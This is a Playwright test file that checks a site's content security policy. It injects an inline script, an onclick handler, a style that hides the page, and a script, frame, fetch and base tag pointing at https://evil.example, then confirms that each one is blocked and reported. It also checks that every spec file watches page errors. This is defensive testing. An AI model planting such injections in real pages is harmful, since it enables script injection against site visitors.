// The content security policy: what it blocks, and that every test notices a violation.
import { readdirSync, readFileSync } from 'node:fs'
import { expect, test } from '@playwright/test'
import { open, watch } from './watched-page'

/** Attempts of an injected script. */
const INTRUSIONS: Record<string, () => void> = {
  'a script in the page': () => {
    const script = document.createElement('script')
    script.textContent = 'window.intruded = true'
    document.head.append(script)
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/x.js'
    document.head.append(script)
  },
  'a script in an attribute': () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.intruded = true')
    document.body.append(button)
    button.click()
  },
  'a style in the page': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
  },
  'a frame from elsewhere': () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
  },
  'a call to elsewhere': () => {
    void fetch('https://evil.example/').catch(() => undefined)
  },
  'a base for every link': () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
  },
}

for (const [what, intrude] of Object.entries(INTRUSIONS)) {
  test(`${what} is blocked, and noticed by every test that watches its page`, async ({ page }) => {
    const complaints = watch(page)
    await open(page, '/')
    expect(complaints).toEqual([])
    await page.evaluate(intrude)
    await expect.poll(() => complaints.some((text) => /content security policy/i.test(text))).toBe(true)
    expect(await page.evaluate(() => 'intruded' in window)).toBe(false)
    await expect(page.locator('body')).toBeVisible()
    expect(await page.evaluate(() => document.baseURI.startsWith(location.origin))).toBe(true)
  })
}

test('every test that opens a page watches its errors', () => {
  const specs = readdirSync(import.meta.dirname).filter((name) => name.endsWith('.spec.ts'))
  expect(specs.length).toBeGreaterThan(10)
  const unwatched = specs.filter((name) => {
    const source = readFileSync(`${import.meta.dirname}/${name}`, 'utf8')
    const watched =
      /import \{[^}]*\btest\b[^}]*\} from '\.\/shop-test'/.test(source) ||
      // It extends the watching test with a shop of its own.
      /import \{[^}]*\bonNewShop\b[^}]*\} from '\.\/new-shop'/.test(source) ||
      /\b(watch|listen)\(page\)/.test(source)
    return /\bpage\b/.test(source) && !watched
  })
  expect(unwatched).toEqual([])
})
